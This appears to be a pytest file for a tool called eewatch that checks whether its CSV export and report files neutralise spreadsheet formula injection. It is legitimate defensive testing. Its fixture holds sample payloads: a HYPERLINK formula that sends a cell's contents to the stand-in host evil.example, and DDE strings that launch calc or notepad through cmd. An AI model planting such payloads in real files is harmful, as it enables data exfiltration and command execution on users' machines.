"""Hostile world III, files eewatch writes: CSV cells a spreadsheet would run, the report folder.

Each test failed on the code before the fix (docs/hostile.md, "Hostile world III: operations").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from eewatch.app.views.site import build_report
from eewatch.domain.clock import FrozenClock
from eewatch.store.store import Store
from tests.conftest import run_cli
from tests.support.fetches import copy_fetch

pytestmark = pytest.mark.hostile

FIXTURE = Path(__file__).parent / "fixtures" / "views" / "rounds.json"
NOW = dt.datetime(2025, 3, 1, 12, tzinfo=dt.UTC)

#: Names that Excel, LibreOffice and Google Sheets would run as formulas.
FORMULAS = {
    "401": '=HYPERLINK("http://evil.example/?"&A1,"Healthcare")',
    "400": "+cmd|' /C calc'!A0",
    "399": "-2+3+cmd|' /C notepad'!A0",
    "398": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _store(tmp_path: Path) -> Store:
    document = json.loads(FIXTURE.read_bytes())
    for record in document["rounds"]:
        if record["drawNumber"] in FORMULAS:
            record["drawName"] = FORMULAS[record["drawNumber"]]
    store = Store.open(f"sqlite:///{tmp_path / 'eewatch.sqlite'}", FrozenClock(NOW))
    store.record_feed_fetch(copy_fetch(json.dumps(document).encode()))
    return store


def _names(text: str) -> dict[str, str]:
    return {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}


def _assert_neutral(names: dict[str, str]) -> None:
    for number, formula in FORMULAS.items():
        name = names[number]
        assert name == "'" + formula, f"round {number}: {name!r} would run as a formula"
    for cell in names.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_cells_that_start_a_formula_are_neutralised_in_the_export(tmp_path: Path) -> None:
    _store(tmp_path).close()
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "sqlite:///{tmp_path / "eewatch.sqlite"}"\n')
    result = run_cli("export", "--format", "csv", "--config", str(config))
    assert result.returncode == 0, result.stderr
    _assert_neutral(_names(result.stdout))
    # The JSON export is data, not a spreadsheet: the name stays as published.
    result = run_cli("export", "--format", "json", "--config", str(config))
    assert {r["id"]: r["name"] for r in json.loads(result.stdout)}["401"] == FORMULAS["401"]


def test_csv_cells_that_start_a_formula_are_neutralised_in_the_report(tmp_path: Path) -> None:
    store = _store(tmp_path)
    try:
        build_report(store, tmp_path / "site", FrozenClock(NOW))
    finally:
        store.close()
    _assert_neutral(_names((tmp_path / "site" / "rounds.csv").read_text(encoding="utf-8")))
